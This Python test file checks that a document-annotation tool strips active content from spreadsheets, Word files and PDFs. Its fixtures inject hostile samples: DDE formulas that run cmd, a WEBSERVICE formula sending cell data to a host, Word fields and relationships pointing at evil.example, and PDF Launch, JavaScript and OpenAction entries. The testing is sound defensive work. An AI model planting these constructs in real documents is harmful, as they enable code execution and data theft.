"""The annotated copy of a submission does nothing when it is opened or clicked."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from indicators.cli import main

SAMPLES = Path(__file__).parents[2] / "corpus" / "samples"


def annotated(path: Path, out: Path) -> bytes:
    assert main(["annotate", str(path), "-o", str(out), "-q"]) == 0
    return out.read_bytes()


def test_formulas_and_links_that_reach_outside_are_left_out(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(SAMPLES / "云溪县生态环境分局2025年项目绩效目标表.xlsx")
    sheet = book.worksheets[0]
    hostile = {
        "Z1": "=cmd|'/c calc'!A1",
        "Z2": '=HYPERLINK("file:///c:/x.exe","x")',
        "Z3": '=WEBSERVICE("http://x/"&A1)',
        "Z4": "=SUM(1,2)",
    }
    for place, text in hostile.items():
        sheet[place] = text
    sheet["Y1"].hyperlink = "file:///c:/windows/x.exe"
    sheet["Y2"].hyperlink = "javascript:alert(1)"
    sheet["Y3"].hyperlink = "https://www.mof.gov.cn/"
    path = tmp_path / "表.xlsx"
    book.save(path)
    with zipfile.ZipFile(io.BytesIO(annotated(path, tmp_path / "批.xlsx"))) as parts:
        texts = {name: parts.read(name).decode("utf-8", "replace") for name in parts.namelist()}
    links = "".join(text for name, text in texts.items() if name.endswith(".rels"))
    formulas = "".join(re.findall("<f>.*?</f>", "".join(texts.values())))
    assert not [gone for gone in ("cmd|", "HYPERLINK", "WEBSERVICE") if gone in formulas]
    assert "SUM(1,2)" in formulas
    assert not [gone for gone in ("file:", "javascript:") if gone in links]
    assert "https://www.mof.gov.cn/" in links
    assert openpyxl.load_workbook(tmp_path / "批.xlsx").worksheets


def _field(*instructions: str) -> str:
    pieces = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"{mark.format('begin')}{pieces}{mark.format('separate')}<w:r><w:t>旧值</w:t></w:r>{mark.format('end')}"


def test_links_and_fields_of_word_that_reach_outside_are_left_out(tmp_path: Path) -> None:
    source = zipfile.ZipFile(SAMPLES / "云溪县教育局2025年项目绩效目标表.docx")
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = {
        "hyperlink": "file:///c:/windows/x.exe",
        "attachedTemplate": "http://evil.example/t.dotm",
        "image": "https://evil.example/p.png",
        "oleObject": "http://evil.example/o.rtf",
    }
    links = "".join(
        f'<Relationship Id="rIdX{number}" Type="{kinds}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(outside.items())
    )
    links += (
        f'<Relationship Id="rIdW" Type="{kinds}/hyperlink" Target="https://www.mof.gov.cn/" TargetMode="External"/>'
    )
    fields = (
        _field("DDEA", "UTO cmd ", '"/c calc"')
        + _field(' INCLUDEPICTURE "http://evil.example/p" ')
        + _field(' HYPERLINK "file:///c:/x.exe" ')
        + _field(' HYPERLINK "https://www.mof.gov.cn/zt" ')
        + _field(" PAGE ")
        + '<w:fldSimple w:instr="LINK Excel c:/x.xls"><w:r><w:t>旧</w:t></w:r></w:fldSimple>'
    )
    path = tmp_path / "表.docx"
    with zipfile.ZipFile(path, "w") as made:
        for name in source.namelist():
            body = source.read(name).decode() if name.endswith((".xml", ".rels")) else source.read(name)
            if name == "word/document.xml":
                body = str(body).replace("<w:sectPr", f"<w:p>{fields}</w:p><w:sectPr", 1)
            elif name == "word/_rels/document.xml.rels":
                body = str(body).replace("</Relationships>", f"{links}</Relationships>")
            made.writestr(name, body)
    with zipfile.ZipFile(io.BytesIO(annotated(path, tmp_path / "批.docx"))) as parts:
        texts = "".join(parts.read(name).decode("utf-8", "replace") for name in parts.namelist())
    assert not [gone for gone in ("evil.example", "file:///", "DDEA", "LINK Excel") if gone in texts]
    assert "https://www.mof.gov.cn/zt" in texts
    assert texts.count("https://www.mof.gov.cn/") == 2
    assert " PAGE " in texts
    assert texts.count("旧值") == 5


def test_scripts_and_programs_of_a_pdf_are_left_out(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter(clone_from=SAMPLES / "云溪县农业农村局2025年项目绩效目标表.pdf")

    def action(kind: str, **more: str) -> DictionaryObject:
        values = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        return DictionaryObject({NameObject("/S"): NameObject(kind), **values})

    actions = [action("/Launch", F="calc.exe"), action("/JavaScript", JS="x()"), action("/URI", URI="javascript:x()")]
    actions.append(action("/URI", URI="https://www.mof.gov.cn/"))
    marks = ArrayObject()
    for item in actions:
        mark = {"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Link"), "/A": item, "/Rect": ArrayObject()}
        marks.append(writer._add_object(DictionaryObject({NameObject(key): value for key, value in mark.items()})))
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), actions[1]])})
    names = DictionaryObject({NameObject("/JavaScript"): scripts})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    writer.pages[0][NameObject("/Annots")] = marks
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action("/Launch", F="calc.exe"))
    path = tmp_path / "表.pdf"
    writer.write(path)
    annotated(path, tmp_path / "批.pdf")
    reader = pypdf.PdfReader(tmp_path / "批.pdf")
    assert "/OpenAction" not in reader.root_object
    assert "/JavaScript" not in reader.root_object.get("/Names", {})
    left = [mark.get_object().get("/A") for page in reader.pages for mark in page.get("/Annots", [])]
    assert [str(item["/URI"]) for item in left if item and item.get("/S") != "/GoTo"] == ["https://www.mof.gov.cn/"]
